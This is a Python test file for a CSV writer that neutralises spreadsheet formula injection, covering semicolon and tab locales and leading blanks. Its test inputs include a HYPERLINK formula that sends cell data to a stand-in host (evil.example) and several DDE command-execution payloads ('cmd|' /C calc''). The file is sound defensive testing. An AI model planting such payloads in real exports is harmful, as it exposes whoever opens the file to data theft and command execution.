"""CSV for people: no cell a spreadsheet would run as a formula (gateway.spreadsheets)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from gateway.spreadsheets import SpreadsheetWriter, safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_formula_starts_are_quoted_as_text(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert safe.startswith("'")
    assert safe.replace("'", "") == text.replace("'", "")  # and nothing else changes


@pytest.mark.parametrize("value", ["No basis for police incidents", "", "a=b", "riec-aa", 42, -3, None])
def test_other_cells_and_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_text_cell() -> None:
    out = io.StringIO()
    writer = SpreadsheetWriter(out)
    writer.writerow(["id", "=1+1"])
    writer.writerows([["g1", "@x", 7], ["g2", "fine", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "'=1+1"], ["g1", "'@x", "7"], ["g2", "fine", ""]]


# A spreadsheet in a Dutch (German, French, ...) locale opens a .csv with `;` as its list separator: the
# file's commas and quotes then mean nothing to it, and every `;` or line break inside a cell starts a new
# cell there. The free text a partner writes must not start a formula in any of those cells either.
_SEMICOLON_PAYLOADS = ["x;=cmd|' /C calc'!A0;y", "x; @SUM(1+1)*cmd|' /C calc'!A0", 'x;"=1+1"',
                       "x\n=HYPERLINK(A1)", "first line\r\n+1+1", "x;\t-2+3"]


def _cells_as_a_semicolon_locale_reads_them(text: str) -> list[str]:
    """Cells as such a spreadsheet finds them: split on `;` and at every line break (CR, LF or CRLF)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return [cell for row in csv.reader(io.StringIO(lines), delimiter=";") for cell in row]


@pytest.mark.parametrize("payload", _SEMICOLON_PAYLOADS)
def test_no_formula_starts_in_a_cell_of_a_semicolon_locale(payload: str) -> None:
    out = io.StringIO()
    SpreadsheetWriter(out).writerow(["gap-1", "riec", payload, "note"])
    for cell in _cells_as_a_semicolon_locale_reads_them(out.getvalue()):
        assert not cell.lstrip(' \t\r\n"').startswith(("=", "+", "-", "@")), (payload, cell)
    # A reader that uses the file's own separator gets the text back, made safe but readable.
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[2].replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", ["Wet Bibob; artikel 9", "line one\nline two", "a;b", "10; 20"])
def test_separators_and_line_breaks_without_a_formula_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


# LibreOffice's text import splits a .csv on tabs too (Tab is among its default separators, beside comma and
# semicolon), and the csv module does not quote a cell for a tab in it: ``Wet Bibob<TAB>=cmd`` is written as
# it is, and read there as two cells, the second a formula.
_TAB_PAYLOADS = ["x\t=cmd|' /C calc'!A0", "x\t @SUM(1+1)", 'x\t"=1+1"', "x\t\t+1+1", "first\t-2+3\tlast"]


@pytest.mark.parametrize("payload", _TAB_PAYLOADS)
def test_no_formula_starts_in_a_cell_of_a_tab_separated_reading(payload: str) -> None:
    out = io.StringIO()
    SpreadsheetWriter(out).writerow(["gap-1", "riec", payload, "note"])
    for cell in [cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter="\t") for cell in row]:
        assert not cell.lstrip(' \r\n"').startswith(("=", "+", "-", "@")), (payload, cell)
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[2].replace("'", "") == payload.replace("'", "")


def test_a_tab_without_a_formula_stays_as_it_is() -> None:
    assert safe_cell("Wet Bibob\tartikel 9") == "Wet Bibob\tartikel 9"


# A formula start after blanks at the very start of a cell. Some readers trim a cell before they look at it:
# LibreOffice's text import with "Trim spaces" ticked, an import that trims whitespace the way JavaScript's
# `trim()` does (no-break spaces and the byte-order mark included) — and the formula guard already skips
# blanks after a `;`, tab or line break, as a spreadsheet does.
_BLANK_STARTS = ["  =1+1", " +cmd|' /C calc'!A0", "\u00a0=HYPERLINK(A1)", "\u00a0 @SUM(1+1)", "\u2003-2+3",
                 "\u3000=1+1", "\u202f=1+1", "\ufeff=1+1", "\v=1+1", "\f+1", ' "=1+1', "\u2028=1"]


@pytest.mark.parametrize("text", _BLANK_STARTS)
def test_a_formula_start_after_leading_blanks_is_quoted_as_text(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert safe.startswith("'"), repr(text)
    assert safe.replace("'", "") == text.replace("'", "")  # the blanks kept: the text reads as it was
    out = io.StringIO()
    SpreadsheetWriter(out).writerow(["gap-1", text])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert not re.sub(r'^[\s"\ufeff]+', "", row[1]).startswith(("=", "+", "-", "@")), repr(row[1])


@pytest.mark.parametrize("text", ["  plain text", "\u00a0Wet Bibob", "  a=b", " 42", "\u00a0 x"])
def test_leading_blanks_without_a_formula_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text
